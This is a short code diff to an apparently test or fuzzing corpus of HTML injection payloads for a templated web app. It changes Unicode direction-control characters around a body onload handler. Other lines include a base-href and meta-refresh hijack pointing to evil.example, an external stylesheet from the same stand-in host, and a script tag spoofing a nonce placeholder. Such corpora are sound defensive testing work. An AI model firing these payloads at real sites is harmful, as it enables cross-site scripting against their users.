@@ -20,7 +20,7 @@ export const corpus = [
   `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:${act}">`,
   `<link rel=stylesheet href="//evil.example/a.css"><style>*{display:none}</style>`,
   `%sveltekit.head%%nonce%%lang%<script nonce="%nonce%">${act}</script>`,
-  `\u202E<body onload=${act}>\u2066`,
+  `\u200F<body onload=${act}>\u200E`,
 ];
 
 /** Hands them out one after another, the next that fits; where there is room for all, all of them. */
